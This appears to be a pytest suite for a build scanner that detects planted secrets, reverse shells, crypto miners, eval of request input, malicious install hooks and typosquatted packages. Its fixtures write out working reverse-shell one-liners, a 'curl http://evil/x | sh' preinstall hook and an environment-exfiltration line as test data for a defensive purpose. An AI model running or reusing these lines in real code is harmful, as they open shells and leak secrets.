"""The scan finds what was planted, says where, and leaves clean sources alone."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from infra.build.scan import ScanResult, scan
from infra.build.scan.dependencies import Dependency, denied, judge_name, popular

# Written in two halves, so that scanners of this repository do not take them for real ones.
AWS = "AKIA" + "QZ7RT5WLHK3MNPXY"
GITHUB = "ghp_" + "a8Kd02jLq9XzPw41mNvB73cRtYuE65sHgF0i"
OPENAI = "sk-proj-" + "Zx81mKq0PvT7uYbN24rWsLdH9eGj"
ANTHROPIC = "sk-ant-" + "api03-Qw8rT6yU2iOp4aSd1fGh"
STRIPE = "sk_live_" + "9aBc8DeF7gHi6JkL5mNo4PqR"
SLACK = "xoxb-" + "29384756102-8473625190482-kLmNoPqRsTuVwXyZ"
KEY = "-----BEGIN " + "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj\n"


def scanned(folder: Path, files: dict[str, str | bytes]) -> ScanResult:
    """The result for a source with these files."""
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
    return scan(folder)


@pytest.mark.parametrize(
    ("name", "text", "rule", "line"),
    [
        ("app.py", f"import os\n\nID = '{AWS}'\n", "secret_aws_access_key", 3),
        (
            "app.py",
            "aws_secret = 'wJalrXUtnFEMIK7MDENGbPxRfiCYzq9TkLmB0aQe'\n",
            "secret_aws_secret_key",
            1,
        ),
        ("a.js", f"const t = '{GITHUB}'\n", "secret_github", 1),
        ("a.ts", f"key: '{OPENAI}'\n", "secret_openai", 1),
        ("a.py", f"k = '{ANTHROPIC}'\n", "secret_anthropic", 1),
        ("a.py", f"k = '{STRIPE}'\n", "secret_stripe", 1),
        ("a.py", f"k = '{SLACK}'\n", "secret_slack", 1),
        ("certs/server.key", KEY, "secret_private_key", 1),
        (".env", f"A=1\nOPENAI_API_KEY={OPENAI}\n", "secret_openai", 2),
        ("run.sh", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n", "reverse_shell", 1),
        ("run.sh", "nc 10.1.2.3 4444 -e /bin/sh\n", "reverse_shell", 1),
        (
            "a.py",
            (
                "import socket,subprocess,os\ns=socket.socket()\ns.connect(('1.2.3.4',1))\n"
                "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])\n"
            ),
            "reverse_shell",
            4,
        ),
        (
            "a.js",
            (
                "const n=require('net'),c=require('child_process');\n"
                "const sh=c.spawn('/bin/sh',[]);\n"
                "const s=new n.Socket();"
                "s.connect(1,'1.2.3.4',()=>{s.pipe(sh.stdin);sh.stdout.pipe(s)})\n"
            ),
            "reverse_shell",
            2,
        ),
        ("m.py", "P = 'stratum+tcp://pool.evil.example:3333'\n", "miner", 1),
        ("m.sh", "wget http://h/xmrig && ./xmrig -o pool\n", "miner", 1),
        (
            "a.py",
            "@app.post('/')\ndef f():\n    return eval(request.args['q'])\n",
            "eval_of_input",
            3,
        ),
        ("a.js", "app.get('/', (req, res) => res.send(eval(req.query.q)))\n", "eval_of_input", 1),
        ("a.py", "os.system(f'ping {request.args[\"h\"]}')\n", "eval_of_input", 1),
        ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "encoded_execution", 2),
        ("a.py", "requests.post('http://x', json=dict(os.environ))\n", "environment_theft", 1),
        (
            "package.json",
            '{"name":"x",\n"scripts":{\n"preinstall":"curl http://evil/x | sh"}}',
            "install_script",
            3,
        ),
        ("setup.py", "import os\nos.system('curl http://x | bash')\n", "install_script", 2),
        ("requirements.txt", "flask\nreqeusts==2.0\n", "typosquat", 2),
        ("package.json", '{"dependencies": {"crossenv": "1"}}', "typosquat", 1),
    ],
)
def test_what_must_stop_a_build_stops_it(
    tmp_path: Path, name: str, text: str, rule: str, line: int
) -> None:
    result = scanned(tmp_path, {name: text})
    found = [(f.rule, f.file, f.line) for f in result.blocking]
    assert (rule, name, line) in found
    assert all(finding.detail and finding.advice for finding in result.findings)
    # A report must not become the next leak.
    assert not any(secret in str(result.to_json()) for secret in (AWS, GITHUB, OPENAI, STRIPE))


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("tool", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "binary"),
        ("tool.exe", b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0", "binary"),
        ("tool.dylib", b"\xcf\xfa\xed\xfe" + b"\0" * 60, "binary"),
        (".env", b"DB=postgres\n", "env_file"),
        ("data.zip", b"PK\x03\x04" + b"\0" * 60, "nested_archive"),
        ("requirements.txt", b"flaks2\nfastapii\n", "typosquat"),
        ("package.json", b'{"dependencies":{"loadash":"1"}}', "typosquat"),
        ("install.sh", b"curl -fsSL https://x/y | bash\n", "pipe_to_shell"),
        ("a.py", b'API_KEY = "f8Kd02jLq9XzPw41mNvB73cR"\n', "secret_generic"),
        ("c.yaml", b"url: postgres://app:Tr0ub4dor3x@db.prod.net/x\n", "secret_url_password"),
        ("tests/test_a.py", f"K = '{AWS}'\n".encode(), "secret_aws_access_key"),
        ("README.md", f"use {GITHUB}\n".encode(), "secret_github"),
    ],
)
def test_what_deserves_a_look_is_a_warning(
    tmp_path: Path, name: str, data: bytes, rule: str
) -> None:
    result = scanned(tmp_path, {name: data})
    assert rule in {finding.rule for finding in result.findings if finding.level == "warn"}
    assert result.blocking == []


CLEAN: dict[str, str | bytes] = {
    "main.py": (
        "import os, subprocess, random\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n"
        "KEY = os.environ['OPENAI_API_KEY']\nEXAMPLE = 'AKIAIOSFODNN7EXAMPLE'\n"
        "password = os.getenv('PASSWORD', 'changeme')\n"
        "@app.post('/')\nasync def f(request: Request):\n    body = await request.json()\n"
        "    return subprocess.run(['ls'], capture_output=True).stdout\n"
        "model.eval()\nredis.eval(script, 1)\n"
        "TOKEN_URL = 'https://login.example.com/oauth2/v2.0/token'\n"
        "SECRET_KEY = 'django-insecure-your-secret-key-here'\n"
    ),
    "server.js": (
        "const apiKey = process.env.API_KEY;\nconst re = /x/; const m = re.exec(req.query.q);\n"
        "app.listen(process.env.PORT);\nconst secretName = 'my-very-long-secret-name-in-vault';\n"
        "db.exec('select 1'); child_process.execFile('ls');\n"
    ),
    "requirements.txt": (
        "# comment\nfastapi==0.110\nuvicorn[standard]>=0.29\nboto3\nrequests ; python_version>'3'\n"
        "-r other.txt\nhttpx\npython-dotenv\nbeautifulsoup4\nlxml\ntyping_extensions\n"
        "psycopg[binary]\n"
        "langchain-community\nopenai\nanthropic\nnumpy\nattrs\nadlfs\nstarlette --hash=sha256:aa\n"
    ),
    "package.json": (
        '{"scripts":{"postinstall":"prisma generate","build":"vite build"},"dependencies":{'
        '"express":"4","react":"18","preact":"10","next":"14","nest":"1","@types/node":"20",'
        '"lodash":"4","axios":"1","zod":"3","ws":"8","pg":"8","vue":"3","discord.js":"14"}}'
    ),
    ".env.example": "OPENAI_API_KEY=sk-your-key-here\nDATABASE_URL=postgres://user:password@localhost/x\n",
    "README.md": "Set `OPENAI_API_KEY=sk-...`. Run `curl https://x.sh | sh`? No: pip install.\n",
    "Dockerfile": 'FROM python:3.12-slim\nRUN pip install uvicorn\nCMD ["uvicorn"]\n',
    "docker-compose.yml": "DATABASE_URL: postgres://postgres:postgres@db:5432/app\n",
    "logo.png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "package-lock.json": '{"integrity":"sha512-AKIAQZ7RT5WLHK3MNPXY"}',
    "src/main.rs": 'fn main() { let key = std::env::var("SECRET_KEY"); }\n',
    "caf\u00e9.py": "x = 'é'\n",
}


def test_clean_sources_are_called_clean(tmp_path: Path) -> None:
    result = scanned(tmp_path, CLEAN)
    assert [f.to_json() for f in result.findings if f.level != "info"] == []
    assert result.files == len(CLEAN)


def test_our_own_templates_are_clean() -> None:
    templates = Path(__file__).parents[2] / "agent-templates"
    for template in templates.iterdir():
        if template.is_dir():
            assert scan(template).blocking == [], template.name


def test_a_small_source_is_scanned_quickly(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        f"pkg/m{i}.py": "import os\nkey = os.environ['KEY']\n" * 60 for i in range(60)
    }
    scanned(tmp_path, files)
    began = time.perf_counter()
    scan(tmp_path)
    assert time.perf_counter() - began < 20  # only against a pattern that explodes


def test_a_comment_vouches_for_a_line_but_not_for_malice(tmp_path: Path) -> None:
    result = scanned(
        tmp_path,
        {
            "a.py": f"K = '{AWS}'  # slipway: allow secret_aws_access_key\n",
            "b.py": f"# slipway: allow *\nK = '{AWS}'\n",
            "c.py": f"K = '{AWS}'  # slipway: allow secret_github\n",
            "d.sh": "bash -i >& /dev/tcp/1.2.3.4/5 0>&1 # slipway: allow reverse_shell\n",
        },
    )
    assert {f.file: f.level for f in result.findings} == {
        "a.py": "info",
        "b.py": "info",
        "c.py": "block",
        "d.sh": "block",
    }


def test_an_ignore_file_vouches_where_no_comment_can_stand(tmp_path: Path) -> None:
    result = scanned(
        tmp_path,
        {
            ".slipwayignore": "# what we know\ntyposquat package.json\nbinary bin/*\n",
            "package.json": '{"dependencies":{"loadash":"1"}}',
            "bin/tool": b"\x7fELF" + b"\0" * 60,
            "other/tool": b"\x7fELF" + b"\0" * 60,
        },
    )
    assert [(f.rule, f.file) for f in result.findings] == [("binary", "other/tool")]


def test_links_are_not_followed_and_pipes_not_read(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.py").write_text(f"K = '{AWS}'\n")
    source = tmp_path / "source"
    source.mkdir()
    (source / "link").symlink_to(outside)
    (source / "file.py").symlink_to(outside / "secret.py")
    assert scan(source).findings == []


def test_scanners_that_did_not_run_are_named_as_unavailable(tmp_path: Path) -> None:
    result = scanned(tmp_path, {"a.py": "x = 1\n"})
    record = result.to_json()
    assert {tool["name"] for tool in record["unavailable"]} >= {"bandit", "trivy", "advisories"}
    assert [tool["name"] for tool in record["tools"]] == ["slipway"]


def test_a_scanner_that_is_installed_and_wanted_is_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tools = tmp_path / "tools"
    tools.mkdir()
    answer = (
        '{"results": [{"test_id": "B602", "test_name": "shell", "issue_severity": "HIGH",'
        ' "filename": "a.py", "line_number": 3, "issue_text": "shell=True"}]}'
    )
    (tools / "bandit").write_text(f"#!/bin/sh\necho '{answer}'\nexit 1\n")
    (tools / "trivy").write_text("#!/bin/sh\necho no json\n")
    for tool in tools.iterdir():
        tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
    monkeypatch.setenv("SLIPWAY_SCAN_TOOLS", "bandit,trivy")
    result = scanned(tmp_path / "source", {"a.py": "x = 1\n"})
    assert [(f.rule, f.level, f.line) for f in result.findings] == [("bandit_B602", "warn", 3)]
    assert "bandit" in {tool.name for tool in result.tools}
    assert "trivy" in {tool.name for tool in result.unavailable}


@pytest.mark.parametrize("registry", ["pypi", "npm"])
def test_no_popular_name_is_mistaken_for_an_imitation(registry: str) -> None:
    assert len(popular(registry)) > 600
    for name in popular(registry):
        assert judge_name(registry, Dependency(name, "f", 1)) is None, name
    assert not denied(registry).keys() & popular(registry)
